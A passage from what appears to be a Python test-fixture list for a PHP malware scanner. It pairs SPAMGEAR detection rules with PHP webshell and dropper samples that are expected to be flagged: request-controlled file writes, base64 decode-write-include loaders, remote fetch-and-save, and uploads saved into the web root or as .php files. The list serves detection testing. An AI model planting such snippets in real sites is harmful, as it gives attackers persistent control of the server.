ByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
        ),
        True,
    ),  # c/x07.php
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        padded(
            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
        ),
        True,
    ),  # c/x07.php padded
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        embedded(
            "<?php\n$p = 'PD9waHAKZnVuY3Rpb24gaGVscGVyXzAoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xKCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICcxJzsgfQpmdW5jdGlvbiBoZWxwZXJfMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMic7IH0KZnVuY3Rpb24gaGVscGVyXzMoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc0JzsgfQpmdW5jdGlvbiBoZWxwZXJfNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNSc7IH0KZnVuY3Rpb24gaGVscGVyXzYoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl83KCRhKSB7IHJldHVybiBzdHJ0b3VwcGVyKCRhKSAuICc3JzsgfQpmdW5jdGlvbiBoZWxwZXJfOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnOCc7IH0KZnVuY3Rpb24gaGVscGVyXzkoJGEpIHsgcmV0dXJuIHN0cnRvdXBwZXIoJGEpIC4gJzknOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTInOyB9CmZ1bmN0aW9uIGhlbHBlcl8xMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8xOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMTknOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjInOyB9CmZ1bmN0aW9uIGhlbHBlcl8yMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8yOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMjknOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzAnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzEnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzInOyB9CmZ1bmN0aW9uIGhlbHBlcl8zMygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzMnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzQnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzUnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzYnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zNygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzcnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzgnOyB9CmZ1bmN0aW9uIGhlbHBlcl8zOSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnMzknOyB9CmZ1bmN0aW9uIGhlbHBlcl80MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDAnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDEnOyB9CmZ1bmN0aW9uIGhlbHBlcl80MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDInOyB9CmZ1bmN0aW9uIGhlbHBlcl80MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDMnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDQnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDUnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDYnOyB9CmZ1bmN0aW9uIGhlbHBlcl80NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDcnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDgnOyB9CmZ1bmN0aW9uIGhlbHBlcl80OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNDknOyB9CmZ1bmN0aW9uIGhlbHBlcl81MCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTAnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTEnOyB9CmZ1bmN0aW9uIGhlbHBlcl81MigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTInOyB9CmZ1bmN0aW9uIGhlbHBlcl81MygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTMnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTQnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTUnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NigkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTYnOyB9CmZ1bmN0aW9uIGhlbHBlcl81NygkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTcnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OCgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTgnOyB9CmZ1bmN0aW9uIGhlbHBlcl81OSgkYSkgeyByZXR1cm4gc3RydG91cHBlcigkYSkgLiAnNTknOyB9Cg==';\nfile_put_contents(__DIR__ . '/.inc.php', base64_decode($p));\ninclude __DIR__ . '/.inc.php';\n"
        ),
        True,
    ),  # c/x07.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
        ),
        True,
    ),  # c/x08.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
        ),
        True,
    ),  # c/x08.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$tmp = sys_get_temp_dir() . '/.' . md5(__FILE__);\n$blob = gzinflate(base64_decode($_POST['blob']));\nfile_put_contents($tmp, $blob);\n@chmod($tmp, 0600);\n@touch($tmp, time() - 86400);\nclearstatcache();\n$ok = is_file($tmp);\nrequire_once $tmp;\n"
        ),
        True,
    ),  # c/x08.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
        ),
        True,
    ),  # c/y01.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
        ),
        True,
    ),  # c/y01.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $path = urldecode($_GET['p']); $body = $_POST['b']; @file_put_contents($path, $body) or die('fail');"
        ),
        True,
    ),  # c/y01.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
        ),
        True,
    ),  # c/y02.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
        ),
        True,
    ),  # c/y02.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $a = $_POST; $fn = $a['fn']; $fc = base64_decode($a['fc']); file_put_contents($fn, $fc);"
        ),
        True,
    ),  # c/y02.php embedded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain(
            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
        ),
        True,
    ),  # c/y03.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded(
            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
        ),
        True,
    ),  # c/y03.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded(
            "<?php if (!empty($_POST['save'])) { $h = fopen($_POST['save'], 'w'); fwrite($h, base64_decode($_POST['data'])); fclose($h); }"
        ),
        True,
    ),  # c/y03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
        ),
        True,
    ),  # c/y04.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
        ),
        True,
    ),  # c/y04.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $d = json_decode($_POST['j'], true); foreach ($d as $f => $c) { file_put_contents($f, base64_decode($c)); }"
        ),
        True,
    ),  # c/y04.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
        ),
        True,
    ),  # c/y05.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
        ),
        True,
    ),  # c/y05.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $n = $_COOKIE['n']; $v = $_COOKIE['v']; $fp = fopen($n, 'w'); fwrite($fp, base64_decode($v)); fclose($fp);"
        ),
        True,
    ),  # c/y05.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
        ),
        True,
    ),  # c/y06.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
        ),
        True,
    ),  # c/y06.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$u = $_REQUEST['url'];\n$t = $_REQUEST['to'];\n$data = file_get_contents($u);\nfile_put_contents($t, $data);\n"
        ),
        True,
    ),  # c/y06.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php $f = $_FILES['file']; if ($f['error'] == 0) { move_uploaded_file($f['tmp_name'], __DIR__ . '/' . $f['name']); echo 'OK'; } ?>"
        ),
        True,
    ),  # c/z01.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php $f = $_FILES['file']; if ($f['error'] == 0) { move_uploaded_file($f['tmp_name'], __DIR__ . '/' . $f['name']); echo 'OK'; } ?>"
        ),
        True,
    ),  # c/z01.php padded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if ($_COOKIE['u'] === 'k1') { if ($_FILES) { $x = array_values($_FILES)[0]; move_uploaded_file($x['tmp_name'], $x['name']); } }"
        ),
        True,
    ),  # c/z02.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if ($_COOKIE['u'] === 'k1') { if ($_FILES) { $x = array_values($_FILES)[0]; move_uploaded_file($x['tmp_name'], $x['name']); } }"
        ),
        True,
    ),  # c/z02.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
        ),
        True,
    ),  # c/z03.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
        ),
        True,
    ),  # c/z03.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
        ),
        True,
    ),  # c/z03.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php copy($_FILES['a']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR . $_FILES['a']['name']);"
        ),
        True,
    ),  # c/z04.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php copy($_FILES['a']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR . $_FILES['a']['name']);"
        ),
        True,
    ),  # c/z04.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
        True,
    ),  # c/z05.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
        True,
    ),  # c/z05.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_COOKIE['d'] . $_FILES['f']['name']);"),
        True,
    ),  # c/z05.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
        ),
        True,
    ),  # c/z06.php
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
        ),
        True,
    ),  # c/z06.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php $dest = isset($_POST['dir']) ? $_POST['dir'] : getcwd(); $dest .= '/' . $_FILES['u']['name']; move_uploaded_file($_FILES['u']['tmp_name'], $dest);"
        ),
        True,
    ),  # c/z06.php embedded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain(
            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
        ),
        True,
    ),  # d/v01.php
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded(
            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
        ),
        True,
    ),  # d/v01.php padded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded(
            "<?php if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'cache.php'); echo 'ok'; }"
        ),
        True,
    ),  # d/v01.php embedded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain(
            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
        ),
        True,
    ),  # d/v02.php
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded(
            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
        ),
        True,
    ),  # d/v02.php padded
    (
